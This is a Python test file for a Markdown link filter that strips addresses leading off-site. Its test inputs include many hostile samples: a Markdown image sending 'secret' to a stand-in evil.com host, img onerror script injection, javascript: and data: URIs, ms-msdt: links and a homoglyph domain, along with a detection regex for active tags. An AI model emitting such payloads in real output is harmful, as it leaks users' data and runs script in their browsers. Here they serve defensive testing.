"""The filter of addresses against a program that shows Markdown: what it makes of the filtered text leads nowhere."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from pincite.links import LinkFilter

GOOD = "https://good.org/a"
EVIL = "![x](https://evil.com/?q=secret)"
SHOWN = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": True}).enable("table"),
]
ACTING = re.compile(r"<\s*/?(?:img|a|iframe|svg|script|style|link|pre)[\s/>]|<[a-zA-Z][^>]*=|<[!?]", re.IGNORECASE)
HARMLESS = re.compile(r"#\S*|[\w-]*")


def filtered(text: str, size: int | None = None) -> str:
    links = LinkFilter(lambda address: address == GOOD)
    size = size or len(text) or 1
    return "".join(links.feed(text[i : i + size]) for i in range(0, len(text), size)) + links.finish()


def leads(text: str) -> list[str]:
    """What a reader's program would fetch, follow or run, other than `GOOD` as a link."""
    found: list[str] = []

    def walk(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type == "image":
                found.append(f"image {token.attrs.get('src')}")
            if token.type == "link_open" and token.attrs["href"] != GOOD:
                target = str(token.attrs["href"])
                found.extend([] if HARMLESS.fullmatch(target) else [f"link {target}"])
            if token.type in ("html_inline", "html_block") and ACTING.search(token.content):
                found.append(token.content)
            walk(token.children or [])

    for program in SHOWN:
        walk(program.parse(text))
    return found


@pytest.mark.parametrize(
    "text",
    [
        # Not code, for one reason or another.
        f"\\`{EVIL}\\`",
        f"`\n- {EVIL}`",
        f"`\n> {EVIL}`",
        f"`\n# {EVIL}`",
        f"`a\nb` {EVIL} `c`",
        f"| a | b |\n|-|-|\n| ` | {EVIL} ` |",
        f"- a\n  ```\n  x\n{EVIL}",
        f"~~~\n```\n~~~\n{EVIL}",
        f"   ```\nx\n   ```\n{EVIL}\n```\n{EVIL}",
        f"```\nx\n```\u00a0\n```\n{EVIL}\n```",
        f"```\nx\n\t```\n```\n{EVIL}\n```",
        f"<!--\n```\n-->\n{EVIL}",
        f"<!-- ` --> {EVIL} `",
        f"<b `>A` {EVIL} `",
        "<div>\n```\n<img src=//evil.com>\n```\n</div>",
        "<b>\n```\n<img src=//evil.com>\n```",
        "<pre>\n\n`<img src=//evil.com>`",
        f"a <b> word\n```\nx\n\n```\n{EVIL}\n```",
        # What is taken out must not join what stood on both sides.
        "htt<i a=b>ps:/<i a=b>/evil.com/secret <<i a=b>img src=x onerror=alert(1)>",
        "[x]<i a=b>(/\\evil.de) and [y](https://evil.com)(/\\evil.de)",
        "[x]: /\\evil.de<i a=b>\n\n[x]",
        "[x]: /\\evil.de\n\n[x]",
        "> [x]: </\\evil.de>\n\n[x]",
        # What is kept of a link, an image or a tag is filtered too.
        "![<img src=//evil.com/?q=1>](x)",
        f"]({GOOD} '<img src=//evil.com/q>')",
        "[x](/\\evil.de/`)",
        f"{GOOD}![x]({GOOD})",
        "<ms-msdt:/id>",
        "[x](<a`b>) ` ![x](https://evil.com)",
    ],
)
def test_nothing_that_is_shown_leads_elsewhere(text: str) -> None:
    assert leads(text)
    assert leads(filtered(text)) == []
    assert filtered(text, 1) == filtered(text, 3) == filtered(text)


@pytest.mark.parametrize("text", ["[x]: /\\evil.de https://evil.com\n\n[x]", "[a](/\\evil.de https://evil.com)"])
def test_the_words_for_what_was_taken_out_are_no_title_of_a_link(text: str) -> None:
    assert leads(text) == leads(filtered(text)) == []
    assert "(address removed)" in filtered(text)


@pytest.mark.parametrize("text", ["https://аpple.com/?q=secret", "![https://evil.com/?q=1](x)", f"{GOOD}/é"])
def test_an_address_in_plain_text_is_seen_where_a_program_makes_links_of_it(text: str) -> None:
    assert "//" not in filtered(text)


@pytest.mark.parametrize("text", ["a formula $`$ " + EVIL + " `", "\\[ ` \\] " + EVIL + " `", f"$$\n\n```\n$$\n{EVIL}"])
def test_a_formula_may_end_what_looks_like_code(text: str) -> None:
    assert "evil.com" not in filtered(text)


@pytest.mark.parametrize(
    "text",
    [
        "As [1]: the lease says. [2]: see there\n[3]: Lease\n",
        f"[1]: {GOOD}\n\nSee [1] and [a]({GOOD} 'the page').",
        "Use `x` and ``y ` z``, then [2](see below).",
        "```python\nprint('https://a.com')\n```\n\nIn `https://b.com` it says so.",
        "It costs $5 and ends in 3 < 4.\n\n`![x](y)` is code.",
        "List<String> and 5 <x and y> 3, e.g. this, i.e. that, 9 a.m./p.m., file.py/x",
    ],
)
def test_honest_text_is_left_as_it_is(text: str) -> None:
    assert filtered(text) == filtered(text, 1) == text


def test_an_address_that_runs_something_is_in_no_source() -> None:
    from step_helpers import passage

    from pincite.links import standing_in

    allowed = standing_in([passage("Write javascript:alert(1) or data:text/html,x there, or tel:123.")])
    assert not allowed("javascript:alert(1)")
    assert not allowed("data:text/html,x")
    assert allowed("tel:123")


PIECES = st.sampled_from(
    [
        *("![a](", "https://evil.com/?q=", GOOD, ")", "](", "[", "]", "!", "`", "`", "``", "```", "~~~", "\n", "\n\n"),
        *("  ", " ", "- ", "> ", "1. ", "# ", "<b>", "</b>", "<div>", "<pre>", "<!--", "-->", "<?", "|", "\n|-|-|\n"),
        *("$", "$$", "\\", "<img src=", "<a href='", ">", "'", '"', "<i a=b>", "[x]: ", "[x]", "/\\evil.de ", "word"),
        *(
            "//evil.de/x",
            "<x:y>",
            "javascript:",
            "    ",
            "\t",
            "(",
            ":",
            "&#96;",
            "&lt;",
            EVIL,
            EVIL,
            "<b `>",
            "\u00a0",
        ),
    ]
)


@settings(max_examples=500, deadline=None)
@given(st.lists(PIECES, max_size=12), st.integers(1, 7))
def test_no_text_leads_elsewhere_once_it_is_filtered(pieces: list[str], size: int) -> None:
    text = "".join(pieces)
    shown = filtered(text)
    assert leads(shown) == []
    assert filtered(text, size) == shown
